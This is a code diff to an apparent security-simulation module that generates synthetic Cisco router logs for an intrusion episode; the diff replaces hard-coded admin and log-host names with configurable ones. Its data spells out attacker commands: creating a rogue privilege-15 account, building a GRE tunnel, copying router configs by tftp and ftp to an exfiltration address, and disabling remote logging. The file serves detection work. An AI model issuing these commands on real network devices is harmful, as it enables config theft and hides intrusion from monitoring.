@@ -14,15 +14,14 @@ from breachscope.simulate.story import Story
 ACTOR = "192.0.2.55"
 EXFIL = "192.0.2.66"
 ROGUE_AAA = "192.0.2.60"
-LOGHOST = "10.10.0.50"
 
 #: (technique, mnemonic, text); "cmd:" entries are configuration commands (PARSER CFGLOG), "cli:" exec commands
 #: logged by the EEM applet that records every command (HA_EM CLI_LOG)
 STEPS: tuple[tuple[str, str, str], ...] = (
-    ("valid_accounts", "SSH-5-SSH2_USERAUTH", f"User 'netadmin' authentication for SSH2 Session from {ACTOR} (tty = 1) "
-     "using crypto cipher 'aes256-ctr', hmac 'hmac-sha2-256' Succeeded"),
-    ("valid_accounts", "SEC_LOGIN-5-LOGIN_SUCCESS", f"Login Success [user: netadmin] [Source: {ACTOR}] [localport: 22] "
-     "at {at}"),
+    ("valid_accounts", "SSH-5-SSH2_USERAUTH", "User '{admin}' authentication for SSH2 Session from "
+     f"{ACTOR} (tty = 1) using crypto cipher 'aes256-ctr', hmac 'hmac-sha2-256' Succeeded"),
+    ("valid_accounts", "SEC_LOGIN-5-LOGIN_SUCCESS", "Login Success [user: {admin}] "
+     f"[Source: {ACTOR}] [localport: 22] at {{at}}"),
     ("local_account", "cmd", "username cisco_tac privilege 15 secret 9 $9$Zk2q1Xv0dQ3s9E$hP4bV0m2YJw7QfQ8nq2rLx"),
     ("acl_change", "cmd", "ip access-list standard 20"),
     ("acl_change", "cmd", "permit 192.0.2.0 0.0.0.255"),
@@ -39,7 +38,7 @@ STEPS: tuple[tuple[str, str, str], ...] = (
     ("gre_tunnel", "cmd", "tunnel source GigabitEthernet0/0/0"),
     ("gre_tunnel", "cmd", f"tunnel destination {EXFIL}"),
     ("gre_tunnel", "LINEPROTO-5-UPDOWN", "Line protocol on Interface Tunnel101, changed state to up"),
-    ("config_change", "SYS-5-CONFIG_I", f"Configured from console by netadmin on vty1 ({ACTOR})"),
+    ("config_change", "SYS-5-CONFIG_I", f"Configured from console by {{admin}} on vty1 ({ACTOR})"),
     ("packet_capture", "cli", "monitor capture CAP1 interface GigabitEthernet0/0/1 both"),
     ("packet_capture", "cli", "monitor capture CAP1 match ipv4 any any"),
     ("packet_capture", "cli", "monitor capture CAP1 start"),
@@ -48,8 +47,8 @@ STEPS: tuple[tuple[str, str, str], ...] = (
     ("guest_shell", "IM-6-START_MSG", "R0/0: ioxman: app-hosting: Start succeeded: guestshell started successfully"),
     ("config_exfiltration", "cli", f"copy running-config tftp://{EXFIL}/wr1.cfg"),
     ("config_exfiltration", "cli", f"copy startup-config ftp://{EXFIL}/wr1-startup.cfg"),
-    ("logging_disabled", "cmd", f"no logging host {LOGHOST}"),
-    ("logging_disabled", "SYS-6-LOGGINGHOST_STARTSTOP", f"Logging to host {LOGHOST} port 514 stopped - CLI initiated"),
+    ("logging_disabled", "cmd", "no logging host {loghost}"),
+    ("logging_disabled", "SYS-6-LOGGINGHOST_STARTSTOP", "Logging to host {loghost} port 514 stopped - CLI initiated"),
 )
 
 
@@ -60,12 +59,17 @@ def build(story: Story, net: Network, cfg: SimConfig, rng: np.random.Generator) 
     t = clock.jst(2025, 2, 19, 2, 13, 4.0)
     first = t
     techniques: dict[str, int] = {}
-    for technique, mnemonic, text in STEPS:
+    names = {"{admin}": net.network_admin, "{loghost}": net.spec.log_collector}
+    for technique, mnemonic, template in STEPS:
+        text = template
+        for key, value in names.items():
+            text = text.replace(key, value)
         t += int(rng.integers(4, 40)) * clock.US
         tag = f"episode:salt-typhoon:{technique}"
         arr = np.array([t])
         if mnemonic == "cmd":
-            story.ios(t, router.name, "PARSER-5-CFGLOG_LOGGEDCMD", f"User:netadmin  logged command:{text}", tag)
+            story.ios(t, router.name, "PARSER-5-CFGLOG_LOGGEDCMD", f"User:{net.network_admin}  logged command:{text}",
+                      tag)
         elif mnemonic == "cli":
             story.ios(t, router.name, "HA_EM-6-LOG", f"CLI_LOG: {text}", tag)
             if "tftp://" in text:
@@ -82,9 +86,9 @@ def build(story: Story, net: Network, cfg: SimConfig, rng: np.random.Generator) 
     silent_to = clock.jst(2025, 2, 20, 5, 40, 0.0)
     tag = "episode:salt-typhoon:logging_disabled"
     story.ios(silent_to + 10_000, router.name, "SYS-6-LOGGINGHOST_STARTSTOP",
-              f"Logging to host {LOGHOST} port 514 started - CLI initiated", tag)
+              f"Logging to host {net.spec.log_collector} port 514 started - CLI initiated", tag)
     story.ios(silent_to + 2 * clock.US, router.name, "SYS-5-CONFIG_I",
-              f"Configured from console by netadmin on vty1 ({ACTOR})", tag)
+              f"Configured from console by {net.network_admin} on vty1 ({ACTOR})", tag)
     # the GRE tunnel carries traffic the sensor sees as protocol 47 between the router and the remote end
     for i in range(6):
         ts = silent_from + (i + 1) * 50 * clock.MINUTE
